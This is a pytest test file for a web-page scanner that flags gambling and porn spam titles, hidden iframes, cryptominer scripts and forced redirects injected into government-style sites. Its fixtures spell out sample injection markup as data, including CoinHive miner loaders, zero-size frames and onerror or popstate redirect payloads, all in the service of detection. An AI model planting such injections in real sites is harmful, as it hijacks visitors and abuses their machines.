"""Titles, descriptions, frames and scripts."""

from itertools import permutations

import pytest

from xuncha.model.outcome import Status
from xuncha.page import parse_page
from xuncha.testing import judge
from xuncha_plugins.darklinks.jumps import jumps
from xuncha_plugins.darklinks.miners import miners
from xuncha_plugins.darklinks.page_checks import injected, title_spam
from xuncha_plugins.darklinks.titles import veiled
from xuncha_plugins.darklinks.words import signs


def keys(outcome):
    return [found.key for found in outcome.findings]


@pytest.mark.parametrize(
    "title",
    [
        "皇冠体育官网_百家乐app下载-示例区公安局",
        "百家乐开户",
        "&#30334;&#23478;&#20048;&#25237;&#27880;平台",
        "北京赛车pk10开奖|时时彩计划",
        "六\u200b合\u200b彩开奖结果现场直播",
        "日韩av在线观看_示例区人民政府",
        "传奇私服发布网_新开传奇sf999",
        "situs judi slot online terpercaya",
        "bet365体育在线投注",
    ],
)
def test_a_title_that_advertises_fails(page, plants, title):
    assert judge(title_spam, plants(page(title=title))).status is Status.FAIL


def test_a_brand_in_the_name_of_an_organ_fails(page, plants):
    assert keys(judge(title_spam, plants(page(title="皇冠体育app市人民政府")))) == ["organ"]


def test_keywords_and_description_that_advertise_fail(page, plants):
    head = '<meta name="keywords" content="百家乐,时时彩,葡京"><meta name="description" content="开户送彩金">'
    assert keys(judge(title_spam, plants(page(head=head)))) == ["meta"]


@pytest.mark.parametrize(
    "title",
    [
        "北京赛车PK10案一审开庭_示例县公安局",
        "网警说：裸聊、约炮敲诈怎么防-示例县人民政府",
        "重拳出击 澳门新葡京网站代理被抓",
        "端掉一个六合彩投注窝点",
    ],
)
def test_a_title_that_reads_like_a_case_is_asked_about(page, plants, title):
    assert judge(title_spam, plants(page(title=title))).status is Status.MANUAL


def test_a_case_in_title_and_keywords_is_one_question(page, plants):
    title = "百家乐、六合彩、新葡京网站代理被抓"
    seen = plants(page(title=title, head=f'<meta name="keywords" content="{title}">'))
    assert judge(title_spam, seen).findings_total == 1


def test_text_before_the_title_fails(page, plants):
    assert keys(judge(title_spam, plants(page(before="<a>澳门赌场</a>")))) == ["before-title"]


def test_rows_of_made_up_tags_mark_a_clone(page, plants):
    junk = "".join(
        f'<{tag} id="k{at}x9b"></{tag}>' for at, tag in enumerate(["legend", "samp", "dfn", "var", "tt", "sub"])
    )
    assert "clone" in keys(judge(title_spam, plants(page(junk, title="百家乐投注网"))))


def test_a_title_that_a_script_sets_fails(page, plants):
    script = '<script>document.title="\\u767e\\u5bb6\\u4e50\\u6295\\u6ce8";</script>'
    assert keys(judge(title_spam, plants(page(script)))) == ["scripted"]


def test_words_are_not_shown_in_full(page, plants):
    found = judge(title_spam, plants(page(title="百家乐开户_www.bad1.com"))).findings[0]
    assert "百家乐" not in str(found.params)
    assert "www.bad1.com" not in str(found.params)


def test_a_description_before_the_title_is_no_text(page, plants):
    before = '<meta name="description" content="首页 > 图片新闻 > “百家乐”的背后">'
    assert judge(title_spam, plants(page(before=before))).status is Status.PASS


def test_a_site_that_was_hardly_seen_is_not_cleared(page, plants, half_seen):
    assert judge(title_spam, plants(page()), crawl=half_seen).status is Status.INCONCLUSIVE
    assert judge(injected, plants(page()), crawl=half_seen).status is Status.INCONCLUSIVE


@pytest.mark.parametrize(
    ("markup", "key"),
    [
        ('<script src="https://coinhive.com/lib/coinhive.min.js"></script>', "miner"),
        ("<script>var miner=new CoinHive.Anonymous('k');miner.start();</script>", "miner-inline"),
        ('<script src="https://cdn.polyfill.io/v2/polyfill.min.js"></script>', "tampered"),
        ('<script src="http://js.caipiao168.com/a.js"></script>', "script"),
        ('<iframe src="http://www.a9.top/x" width="0" height="0"></iframe>', "frame"),
        ('<iframe src="http://www.a9.top/x" style="width:0px;height:0px"></iframe>', "frame"),
        ('<div style="display:none"><iframe src="http://www.a9.top/x"></iframe></div>', "frame"),
        (
            '<iframe src="http://www.bet365-a.com/" style="position:fixed;width:100%;height:100%"></iframe>',
            "frame-spam",
        ),
        ('<meta http-equiv="refresh" content="3;url=http://www.bet365-a.com/">', "sent"),
    ],
)
def test_what_does_not_belong_fails(page, plants, markup, key):
    outcome = judge(injected, plants(page(markup)))
    assert (outcome.status, keys(outcome)) == (Status.FAIL, [key])


@pytest.mark.parametrize(
    "markup",
    [
        '<iframe src="http://www.company.com/a.htm" width="0" height="0"></iframe>',
        '<div style="display:none"><iframe src="http://9.9.9.9:8081/x"></iframe></div>',
        '<script src="http://tj.company.top/a.js"></script>',
        '<meta http-equiv="refresh" content="0;url=http://www.hgty8866.top/">',
        '<meta http-equiv="Refresh" content="0;url=http://www.company.com:8899/">',
        '<a href="/x">栏目</a>' * 120 + '<meta http-equiv="refresh" content="0;url=http://www.hgty8866.top/">',
    ],
)
def test_what_may_be_the_offices_own_is_asked_about(page, plants, markup):
    assert judge(injected, plants(page(markup))).status is Status.MANUAL


@pytest.mark.parametrize(
    "markup",
    [
        '<iframe src="http://www.weather.com.cn/x" width="300" height="60"></iframe>',
        '<iframe src="/include/count.html" width="0" height="0"></iframe>',
        '<meta http-equiv="refresh" content="5;url=http://www.company.com/">',
        '<meta http-equiv="refresh" content="600">',
        '<iframe src="https://www.googletagmanager.com/ns.html" height="0" width="0" hidden></iframe>',
        '<script src="https://cdn.bootcss.com/jquery/3.4.1/jquery.min.js"></script>',
        '<script src="http://www.company.com/kefu.js"></script>',
        '<script src="http://218.0.0.1:8080/stat.js"></script>',
        '<iframe src="http://sso.company.com/check" style="display:none"></iframe>',
        '<iframe src="http://tianqi.example.top/" width="200" height="40"></iframe>',
    ],
)
def test_what_honest_pages_load_passes(page, plants, markup):
    assert judge(injected, plants(page(markup))).status is Status.PASS


@pytest.mark.parametrize("sample", [sign.sample for sign in miners().signs])
def test_each_sign_of_a_miner_is_found_in_a_page(page, plants, sample):
    assert keys(judge(injected, plants(page(f"<script>{sample}</script>")))) == ["miner-inline"]


@pytest.mark.parametrize("sign", miners().signs)
def test_each_sign_of_a_miner_has_a_sample_that_no_other_sign_is_in(sign):
    assert [other.text for other in miners().signs if other.text in sign.sample] == [sign.text]


@pytest.mark.parametrize("src", ["/js/deepMiner.js", "/static/webmr.js?v=1", "https://a.example.com/coinhive.min.js"])
def test_a_file_called_like_a_miner_fails_wherever_it_lies(page, plants, src):
    assert keys(judge(injected, plants(page(f'<script src="{src}"></script>')))) == ["miner-inline"]


@pytest.mark.parametrize("src", ["/js/miner.js", "/coinhive/jquery.js", "/js/cryptonews.js", "/js/crypto-js.min.js"])
def test_a_file_called_nearly_so_passes(page, plants, src):
    assert keys(judge(injected, plants(page(f'<script src="{src}"></script>')))) == []


SPAM_HOST = "https://www.bet88xx.top/"


@pytest.mark.parametrize(
    "markup",
    [
        f'<script>location.href="{SPAM_HOST}"</script>',
        f"<script>if(navigator.userAgent)window.location.replace('{SPAM_HOST}')</script>",
        f"<svg onload=\"location='{SPAM_HOST}'\"></svg>",
        f"<img src=x onerror=\"window.location.href='{SPAM_HOST}'\">",
        f"<iframe srcdoc=\"<script>top.location='{SPAM_HOST}'</script>\"></iframe>",
        f"<iframe src=\"javascript:top.location='{SPAM_HOST}'\"></iframe>",
        f'<a href="javascript:location=&#39;{SPAM_HOST}&#39;">x</a>',
        "<script>location.href='//www.hg0088.com/'</script>",
    ],
)
def test_a_jump_to_a_host_that_says_spam_fails_wherever_it_is_written(page, plants, markup):
    assert keys(judge(injected, plants(page(markup)))) == ["sent"]


@pytest.mark.parametrize(
    ("markup", "found"),
    [
        ("<script>window.location.href='http://www.qmz88888.com/'</script>", ["sent-maybe"]),
        ("<img src=x onerror=\"location='http://www.qmz.top/'\">", ["sent-maybe"]),
        ("<script>if(mobile){location.href='http://www.qmz.top/'}</script>", []),
        ("<a onclick=\"location='http://www.qmz.top/'\">移动版</a>", []),
        ("<script>location.href='http://m.shili-wap.example.com/'</script>", []),
        ("<script>location.href='/index.html'; var location_url='//x.top/';</script>", []),
    ],
)
def test_a_jump_to_an_odd_host_is_asked_about_where_it_waits_for_nobody(page, markup, found):
    assert [one.kind for one in jumps(page(markup))] == found


def test_a_frameset_of_a_host_that_says_spam_fails(plants):
    markup = f"<html><head><title>x</title></head><frameset rows='*,0'><frame src='{SPAM_HOST}'></frameset></html>"
    made = parse_page(markup.encode(), url="http://www.a.gov.example/", headers=(("content-type", "text/html"),))
    assert keys(judge(injected, plants(made))) == ["frame-spam"]


def test_a_title_in_capital_tags_is_found_where_it_begins(page, plants):
    shouting = page(before="百家乐开户 ").html.replace("title>", "TITLE>")
    found = plants(parse_page(shouting.encode(), url="http://www.a.gov.example/"))
    assert [one.kind for one in found.titles] == ["before-title"]


def test_a_jump_in_capital_letters_is_seen(page, plants):
    jump = '<META HTTP-EQUIV="Refresh" CONTENT="0;url=http://www.bet365-vip.com/">'
    assert [one.kind for one in plants(page(head=jump)).injected] == ["sent"]


def test_what_others_are_told_of_a_page_advertises_as_well(page, plants):
    head = '<meta property="og:{}" content="{}">'
    told = head.format("title", "皇冠体育官网") + head.format("description", "新葡京、太阳城娱乐开户")
    assert [one.kind for one in plants(page(head=told)).titles] == ["meta"]


def test_words_within_each_other_are_veiled_the_same_each_time():
    title = "亚洲一区二区三区在线播放"
    assert {veiled(title, order) for order in permutations(signs(title))} == {"亚洲一**区三区在线播放"}


@pytest.mark.parametrize(
    ("frame", "found"),
    [
        (
            '<div style="position:fixed;inset:0"><iframe src="https://www.888-yl.vip/"></iframe></div>',
            ["frame-over-maybe"],
        ),
        (
            '<iframe style="position:fixed;width:100%;height:100vh" src="https://m.8899a.cc/"></iframe>',
            ["frame-over-maybe"],
        ),
        ('<iframe style="position:fixed;width:100%;height:100vh" src="https://dp.sl-cloud.com/"></iframe>', []),
        ('<iframe style="width:100%;height:100%" src="https://www.888-yl.vip/"></iframe>', []),
        ('<div style="position:fixed;right:0;bottom:0"><iframe src="https://kf.sl-im.vip/"></iframe></div>', []),
        ('<object data="https://www.bet365-a.com/" width="0" height="0"></object>', ["frame-spam"]),
    ],
)
def test_a_frame_over_the_whole_page_is_asked_about_where_its_host_is_odd(page, plants, frame, found):
    assert [one.kind for one in plants(page(frame)).injected] == found


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("http://58.56.1.2:8081/tongji.jsp", Status.PASS),
        ("http://58.56.1.2/x.htm", Status.MANUAL),
        ("http://www.qp8899.top/tongji.jsp", Status.FAIL),
    ],
)
def test_a_counter_at_a_bare_address_may_hide_its_frame(page, plants, url, status):
    assert judge(injected, plants(page(f'<iframe style="display:none" src="{url}"></iframe>'))).status is status


MENU = "".join(f'<a href="/column/{number}/">栏目{number}</a>' for number in range(40))


@pytest.mark.parametrize(
    "script",
    [
        'window.onpopstate=function(){location.href="https://h5.8866k.vip"};history.pushState(null,null,"#")',
        'window.addEventListener("popstate",function(e){location.replace("https://h5.8866k.vip")})',
        "setTimeout(function(){location.href='https://h5.8866k.vip'},900)",
        "setTimeout(\"location.href='https://h5.8866k.vip'\",900)",
    ],
)
def test_a_jump_after_a_while_or_on_the_way_back_to_an_odd_host_is_asked_about(page, plants, script):
    outcome = judge(injected, plants(page(f"{MENU}<script>{script}</script>")))
    assert [(found.key, found.status) for found in outcome.findings] == [("sent-maybe", Status.MANUAL)]


@pytest.mark.parametrize("to", ["/index.html", "https://www.sl-zwfw.com/", "http://www.hebei.gov.cn/"])
def test_such_jumps_to_ordinary_hosts_are_left_alone(page, plants, to):
    script = f'setTimeout(function(){{location.href="{to}"}},3000);window.onpopstate=function(){{location.href="{to}"}}'
    assert judge(injected, plants(page(f"<script>{script}</script>"))).status is Status.PASS
